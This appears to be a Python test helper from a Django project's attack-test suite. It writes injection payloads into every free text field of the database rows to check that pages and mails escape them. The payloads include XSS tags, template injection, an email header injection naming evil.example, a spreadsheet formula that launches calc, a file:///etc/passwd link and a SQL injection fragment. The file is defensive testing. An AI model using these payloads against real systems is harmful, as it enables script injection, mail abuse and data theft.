"""Words that break out of their place, in every text a cast has: names, notes, reasons, addresses."""

from itertools import count

from django.db import DatabaseError, models, transaction

from tests.attack.shooting import models as our_models

PAYLOADS = [
    "<script>alert(1337)</script>",
    '"><img src=http://127.0.0.1:9/x onerror=alert(1337)>',
    "</title></textarea><svg onload=alert(1337)>",
    "{{ 13371337|add:13371337 }}{% now 'Y' %}",
    "x\r\nBcc: all@evil.example\r\n\r\n<b>body</b>",
    "=cmd|' /C calc'!A0",
    "＠SUM(1)<link rel=attachment href=file:///etc/passwd>",
    "\u202egnp.exe\u200b\ufeff",
    "' OR 1=1 --<b>body</b>",
]
# What no page and no mail may hold as it stands here, and what a template would have made of it.
RAW = [
    "<script>alert", "<img src=http://127.0.0.1:9", "<svg onload", "<link rel=attachment", "<b>body",
    "26742674",
]  # fmt: skip
# Filled by the portal itself, of a form it knows.
_MADE = {
    "password", "language", "token_digest", "secret", "digest", "content_digest", "pdf_digest", "code",
    "number", "pdf", "country", "weekday", "key", "purpose",
}  # fmt: skip


def poison(*wanted: type[models.Model]) -> int:
    """Put a payload behind every text of every row; how many texts hold one now.

    Rows the database keeps as they are, like signed weeks, stay as they are.
    """
    turn, changed = count(), 0
    for model in wanted or our_models():
        for field in model._meta.concrete_fields:
            if _is_text(field):
                changed += sum(_put(row, field, next(turn)) for row in model._default_manager.all())
    return changed


def _is_text(field):
    kind = field.get_internal_type()
    free = kind in ("CharField", "TextField") and not field.choices and not field.unique
    return free and field.editable and field.name not in _MADE


def _put(row, field, turn):
    text = f"{getattr(row, field.attname) or ''} {PAYLOADS[turn % len(PAYLOADS)]}"
    try:
        with transaction.atomic():
            type(row)._default_manager.filter(pk=row.pk).update(
                **{field.attname: text[: field.max_length]}
            )
    except DatabaseError:
        return 0
    return 1
